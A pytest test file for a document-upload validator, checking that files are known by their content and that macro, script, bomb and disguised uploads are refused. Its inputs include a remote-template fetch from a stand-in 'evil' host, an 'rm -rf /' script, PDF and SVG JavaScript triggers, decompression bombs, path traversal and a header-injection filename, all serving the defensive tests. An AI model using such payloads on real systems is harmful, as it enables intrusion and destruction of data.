"""Files are what is in them: names and promises count for nothing, and nothing that runs gets in."""

import io
import random
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image as Pillow

from core.files import read_document
from core.files.reading import safe_name

LIMIT = 1_000_000
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MACRO_TYPES = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
FETCHES = (
    b'<Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/>'
)
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
STREAM = b"/Type /ObjStm /Filter /FlateDecode"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def read(name: str, content: bytes):
    return read_document(SimpleUploadedFile(name, content), max_bytes=LIMIT)


def refusal(name: str, content: bytes) -> str:
    """The code of what is wrong with it."""
    with pytest.raises(ValidationError) as caught:
        read(name, content)
    return caught.value.error_dict["file"][0].code


def packed(parts: dict[str, bytes], *, first: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in sorted(parts.items(), key=lambda part: part[0] != first):
            archive.writestr(path, content)
    return out.getvalue()


def office(folder: str = "word", types: bytes = b"<Types/>", **parts: bytes) -> bytes:
    more = {path.replace("__", "/"): content for path, content in parts.items()}
    return packed({"[Content_Types].xml": types, f"{folder}/main.xml": b"<x/>", **more})


def odf(kind: str = "text", **parts: bytes) -> bytes:
    more = {path.replace("__", "/"): content for path, content in parts.items()}
    said = f"application/vnd.oasis.opendocument.{kind}".encode()
    return packed({"mimetype": said, "content.xml": b"<x/>", **more}, first="mimetype")


def pdf(more: bytes = b"", stream: bytes = b"", head: bytes = b"") -> bytes:
    body = b"%PDF-1.5\n1 0 obj << /Type /Catalog " + more + b" >> endobj\n"
    if stream:
        body += b"2 0 obj << " + head + b" >>\nstream\n" + stream + b"\nendstream endobj\n"
    return body + b"%%EOF"


def ole(*names: str) -> bytes:
    return OLE + b"\x00" * 504 + b"".join(name.encode("utf-16-le").ljust(128, b"\x00") for name in names)


@pytest.mark.parametrize(
    ("name", "content", "kept", "content_type"),
    [
        ("a.pdf", pdf(), "a.pdf", "application/pdf"),
        ("a.docx", office(), "a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("a.xlsx", office("xl"), "a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        (
            "a.pptx",
            office("ppt"),
            "a.pptx",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        ),
        ("a.odt", odf(), "a.odt", "application/vnd.oasis.opendocument.text"),
        ("a.doc", ole("Root Entry", "WordDocument"), "a.doc", "application/msword"),
        ("a.txt", "Blåbærgrød".encode(), "a.txt", "text/plain"),
        ("a.csv", b"a;b\n1;2", "a.csv", "text/csv"),
        # The name lies; what is in it counts.
        ("a.exe", pdf(), "a.pdf", "application/pdf"),
        ("invoice.pdf.exe", office(), "invoice-pdf.docx", None),
    ],
)
def test_a_document_is_known_by_what_is_in_it(name, content, kept, content_type):
    found = read(name, content)
    assert found.name == kept
    assert found.content == content
    assert content_type in (None, found.content_type)
    assert not found.is_picture


def test_a_picture_is_written_anew():
    out = io.BytesIO()
    Pillow.new("RGB", (40, 20)).save(out, "PNG")
    hidden = out.getvalue() + b"PK\x03\x04 a second file behind the first"
    found = read("holiday.jpg", hidden)
    assert (found.name, found.content_type, found.width, found.height) == ("holiday.png", "image/png", 40, 20)
    assert b"second file" not in found.content


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.docm", office(**{"word/vbaProject.bin": b"x"}), "runs"),
        ("a.docx", office(types=MACRO_TYPES), "runs"),
        ("a.xlsx", office("xl", xl__macrosheets__sheet1=b"<x/>"), "runs"),
        ("a.xlsx", office("xl", xl__activeX__activeX1=b"<x/>"), "runs"),
        ("a.docx", office(word__embeddings__ole=b"MZ"), "runs"),
        ("a.docx", office(**{"word/_rels/settings.xml.rels": FETCHES}), "runs"),
        ("a.odt", odf(Basic__Standard__Module1=b"<x/>"), "runs"),
        ("a.odt", odf(Scripts__python__a=b"import os"), "runs"),
        ("a.doc", ole("WordDocument", "_VBA_PROJECT"), "runs"),
        ("a.doc", ole("WordDocument", "ObjectPool"), "runs"),
        ("a.xls", ole("Workbook"), "old"),
        ("a.docx", ole("EncryptedPackage"), "locked"),
        ("a.msi", ole("Something"), "unknown"),
        ("a.zip", packed({"a.txt": b"hello"}), "archive"),
        ("a.docx", b"PK\x03\x04 broken", "damaged"),
        ("a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert) >>"), "runs"),
        ("a.pdf", pdf(b"/OpenAction << /S /J#61vaScript >>"), "runs"),
        ("a.pdf", pdf(b"/Names << /EmbeddedFiles 3 0 R >>"), "runs"),
        ("a.pdf", pdf(b"/AA << /S /Launch >>"), "runs"),
        ("a.pdf", pdf(stream=zlib.compress(b"5 0 << /S /JavaScript >>"), head=STREAM), "runs"),
        ("a.pdf", pdf(b"/Encrypt 4 0 R"), "locked"),
        ("a.pdf", b"\x00\x01garbage" + pdf(), "pretends"),
        ("a.svg", SVG, "runs"),
        ("a.txt", SVG, "runs"),
        ("a.txt", b"<html><body>hello", "runs"),
        ("a.txt", b"#!/bin/sh\nrm -rf /", "runs"),
        ("a.csv", b"{\\rtf1 hello}", "runs"),
        ("a.txt", b"MZ\x90\x00", "unknown"),
        ("a.txt", b"caf\xe9", "unknown"),
        ("a.js", b"alert(1)", "unknown"),
        ("a.html", b"hello", "unknown"),
        ("a", b"hello", "unknown"),
        ("a.txt", b"", "empty"),
        ("a.txt", b"x" * (LIMIT + 1), "large"),
    ],
)  # fmt: skip
def test_what_may_run_or_is_not_what_it_says_is_refused(name, content, code):
    assert refusal(name, content) == code


def test_a_bomb_is_refused_by_its_own_list():
    bomb = packed({"[Content_Types].xml": b"", "word/a.xml": b"\x00" * 1_000})
    whole = bytearray(bomb)
    # The list of a packed file says how large each part is: this one says two gigabytes.
    at = whole.rindex(b"PK\x01\x02")
    whole[at + 24 : at + 28] = (2_000_000_000).to_bytes(4, "little")
    assert refusal("a.docx", bytes(whole)) == "bomb"


def test_a_stream_that_unpacks_to_too_much_is_refused():
    large = zlib.compress(b"\x00" * 70_000_000, 9)
    one = b"2 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + large + b"\nendstream endobj\n"
    assert refusal("a.pdf", b"%PDF-1.5\n" + one * 9 + b"%%EOF") == "bomb"


def test_words_among_the_bytes_of_a_picture_are_no_script():
    found = read("a.pdf", pdf(stream=b"\x89 /JS /JavaScript (by chance)", head=b"/Type /XObject /Subtype /Image"))
    assert found.content_type == "application/pdf"


def test_broken_bytes_are_refused_in_words_and_never_break_the_site():
    signs = random.Random(7)
    for start in (b"%PDF-1.7\n", b"PK\x03\x04", OLE, b"\x89PNG\r\n\x1a\n", b"GIF89a", b"\xff\xd8\xff", b"RIFF1234WEBP"):
        for _time in range(20):
            content = start + signs.randbytes(signs.randint(0, 4_000))
            try:
                read("a.pdf", content)
            except ValidationError as error:
                assert error.error_dict["file"]


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\plan.pdf", "plan.pdf"),
        ('a"b\r\nSet-Cookie: x.pdf', "a b Set-Cookie x.pdf"),
        ("", "file.pdf"),
        (".pdf", "file.pdf"),
        ("x" * 300 + ".pdf", "x" * 96 + ".pdf"),
        ("Mødereferat 3. maj.pdf", "Mødereferat 3- maj.pdf"),
    ],
)
def test_a_name_is_safe_for_a_disk_and_a_header(name, kept):
    assert safe_name(name, "pdf") == kept
